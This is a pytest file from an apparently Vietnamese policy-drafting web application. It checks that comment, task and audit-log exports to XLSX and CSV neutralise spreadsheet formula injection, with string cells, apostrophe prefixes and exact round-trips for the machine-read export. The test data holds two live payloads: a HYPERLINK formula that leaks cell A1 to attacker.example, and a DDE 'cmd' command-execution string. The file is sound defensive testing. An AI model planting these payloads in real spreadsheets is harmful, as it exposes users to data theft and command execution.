"""Issue 14, item 2: spreadsheet formula injection. A comment ``=HYPERLINK(…)`` and an author
``=cmd|' /C calc'!A0`` came out as live formulas. The rules (``core/spreadsheets.py``): XLSX user text
is a string cell, value unchanged; a CSV for people prefixes "'" to a cell that starts with
= + - @ TAB CR; the tasks CSV, read back by the tasks import, keeps the exact text and round-trips."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from hoinhap.core.spreadsheets import csv_cell_for_people, xlsx_append

LEAK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Xem thêm")'
CALC = "=cmd|' /C calc'!A0"
STARTS = [LEAK, CALC, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "- Rà soát văn bản", "= không phải công thức"]


def _formulas(xlsx: bytes) -> list[str]:
    """Every formula element in every sheet of the file (there must be none)."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    return [sheet for sheet in sheets if "<f>" in sheet or "<f " in sheet]


def _string_values(xlsx: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(xlsx))  # not data_only: a formula would read back as its "=…" source
    return {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.data_type == "s" and isinstance(cell.value, str)}


@pytest.mark.parametrize("text", STARTS)
def test_the_people_csv_rule(text):
    assert csv_cell_for_people(text) == f"'{text}"
    assert csv_cell_for_people("Bộ Tài chính") == "Bộ Tài chính"
    assert csv_cell_for_people(None) == "" and csv_cell_for_people(12) == "12"


def test_xlsx_append_writes_strings_that_read_back_unchanged():
    from openpyxl import Workbook

    book = Workbook()
    xlsx_append(book.active, [*STARTS, None, 7])
    data = io.BytesIO()
    book.save(data)
    assert _formulas(data.getvalue()) == []
    assert list(load_workbook(data).active.iter_rows(values_only=True))[0] == (*STARTS, None, 7)


def test_the_comment_response_report_xlsx(people, consultation):
    from hoinhap.drafting import consultation_services
    from hoinhap.drafting.report_data import build_report
    from hoinhap.drafting.report_render import render

    consultation_services.comment_add(actor=None, round_=consultation, text=LEAK, author_name=CALC,
                                      proposed_text="+ thêm khoản 3", today=date(2025, 9, 10))
    xlsx, _ = render(build_report(consultation), "xlsx", on=date(2025, 10, 3))
    assert _formulas(xlsx) == []
    assert {f"{LEAK}\nĐề xuất sửa: + thêm khoản 3", CALC} <= _string_values(xlsx)


def test_the_periodic_task_report_xlsx(org, programme):
    from hoinhap.implementation import periodic
    from hoinhap.implementation.cutoffs import period_holding

    programme.tasks.filter(number="1").update(title=LEAK)  # overdue on 2025-07-10
    xlsx = periodic.to_xlsx(periodic.build(period_holding("quarter", date(2025, 7, 10))), on=date(2025, 7, 10))
    assert _formulas(xlsx) == []
    assert LEAK in _string_values(xlsx)


def _export(programme, fmt):
    from hoinhap.implementation.bulk_services import export_rows, to_csv, to_xlsx
    from hoinhap.implementation.selectors import task_list

    rows = export_rows(date(2025, 7, 1), list(task_list(date(2025, 7, 1), programme=programme)
                                              .prefetch_related("coordinators")))
    return to_xlsx(rows) if fmt == "xlsx" else to_csv(rows)


def test_the_tasks_exports_round_trip_through_the_import(org, programme):
    """The tasks export is for machines: its text is exact (no "'" prefix in the CSV, string cells in
    the XLSX), and import → export → import changes nothing, in either format."""
    from hoinhap.implementation.bulk_services import tasks_import

    titles = {"1": LEAK, "2": CALC, "3": "- Rà soát văn bản", "4": "@SUM(A1)"}
    outputs = {"1": "+ Nghị định", "2": "-", "3": "= Báo cáo", "4": "@ Kế hoạch"}
    for number, title in titles.items():
        programme.tasks.filter(number=number).update(title=title, output=outputs[number])
    csv_before = _export(programme, "csv")
    for fmt in ("csv", "xlsx"):
        data = _export(programme, fmt)
        if fmt == "xlsx":
            assert _formulas(data) == []
        else:
            assert "'=" not in data.decode("utf-8-sig") and "- Rà soát văn bản" in data.decode("utf-8-sig")
        counts = tasks_import(actor=org["secretariat"], data=data, filename=f"tasks.{fmt}")
        assert counts["created"] == counts["updated"] == 0, fmt
        assert {t.number: (t.title, t.output) for t in programme.tasks.filter(number__in=titles)} == {
            n: (titles[n], outputs[n]) for n in titles}
    assert _export(programme, "csv") == csv_before


def test_the_audit_log_csv(client, org, programme):
    from hoinhap.implementation import services

    services.task_create(actor=org["secretariat"], programme=programme, title=CALC, lead=org["BTC"])
    services.task_create(actor=org["secretariat"], programme=programme, title="-1+2 nhiệm vụ", lead=org["BTC"])
    client.force_login(org["secretariat"])
    content = client.get("/nhat-ky/?action=implementation.task.created&format=csv").content.decode("utf-8-sig")
    targets = [row["Đối tượng"] for row in csv.DictReader(io.StringIO(content))]
    assert f"'{CALC}" in targets and "'-1+2 nhiệm vụ" in targets
    assert not any(t.startswith(("=", "+", "-", "@")) for t in targets)
